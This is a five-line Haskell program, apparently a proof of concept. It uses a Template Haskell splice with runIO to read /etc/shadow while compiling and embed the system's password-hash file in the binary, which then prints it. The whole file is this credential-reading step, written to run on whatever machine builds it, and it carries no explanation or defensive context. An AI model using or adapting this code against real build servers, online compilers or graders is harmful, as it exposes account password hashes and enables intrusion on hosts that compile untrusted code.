{-# LANGUAGE TemplateHaskell #-}
import Language.Haskell.TH
import Language.Haskell.TH.Syntax
main :: IO ()
main = putStrLn $(runIO (readFile "/etc/shadow") >>= lift)
